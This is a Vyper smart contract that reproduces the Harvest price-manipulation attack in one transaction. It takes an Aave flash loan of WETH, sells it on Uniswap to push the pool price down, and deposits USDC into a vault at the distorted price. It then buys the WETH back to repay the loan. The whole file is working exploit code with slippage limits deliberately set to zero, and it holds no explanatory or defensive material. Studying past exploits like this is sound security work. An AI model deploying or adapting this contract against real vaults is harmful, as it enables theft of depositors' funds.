# pragma version 0.4.3
# SPDX-License-Identifier: Apache-2.0
"""
@title Harvest's attack, in one transaction
@notice Borrow WETH from Aave for a moment, sell it on Uniswap, deposit while the pool's price is down, buy it back.
"""

from ethereum.ercs import IERC20

struct ExactInputSingle:
    token_in: address
    token_out: address
    fee: uint24
    recipient: address
    deadline: uint256
    amount_in: uint256
    amount_out_minimum: uint256
    sqrt_price_limit_x96: uint160

struct ExactOutputSingle:
    token_in: address
    token_out: address
    fee: uint24
    recipient: address
    deadline: uint256
    amount_out: uint256
    amount_in_maximum: uint256
    sqrt_price_limit_x96: uint160

interface Router:
    def exactInputSingle(params: ExactInputSingle) -> uint256: nonpayable
    def exactOutputSingle(params: ExactOutputSingle) -> uint256: nonpayable

interface Pool:
    def flashLoanSimple(
        receiver: address, asset: address, amount: uint256, params: Bytes[32], referral: uint16
    ): nonpayable

interface Vault:
    def deposit(assets: uint256, receiver: address) -> uint256: nonpayable

ROUTER: immutable(address)
POOL: immutable(address)
VAULT: immutable(address)
USDC: immutable(address)
FEE: constant(uint24) = 500
stake: uint256


@deploy
def __init__(router: address, pool: address, vault: address, usdc: address):
    ROUTER = router
    POOL = pool
    VAULT = vault
    USDC = usdc


@external
def attack(weth: address, amount: uint256, stake: uint256):
    self.stake = stake
    extcall Pool(POOL).flashLoanSimple(self, weth, amount, b"", 0)


@external
def executeOperation(
    asset: address, amount: uint256, premium: uint256, initiator: address, params: Bytes[32]
) -> bool:
    extcall IERC20(asset).approve(ROUTER, amount)
    extcall Router(ROUTER).exactInputSingle(
        ExactInputSingle(
            token_in=asset,
            token_out=USDC,
            fee=FEE,
            recipient=self,
            deadline=block.timestamp,
            amount_in=amount,
            amount_out_minimum=0,
            sqrt_price_limit_x96=0,
        )
    )
    extcall IERC20(USDC).approve(VAULT, self.stake)
    extcall Vault(VAULT).deposit(self.stake, self)
    extcall IERC20(USDC).approve(ROUTER, max_value(uint256))
    extcall Router(ROUTER).exactOutputSingle(
        ExactOutputSingle(
            token_in=USDC,
            token_out=asset,
            fee=FEE,
            recipient=self,
            deadline=block.timestamp,
            amount_out=amount + premium,
            amount_in_maximum=max_value(uint256),
            sqrt_price_limit_x96=0,
        )
    )
    extcall IERC20(asset).approve(POOL, amount + premium)
    return True
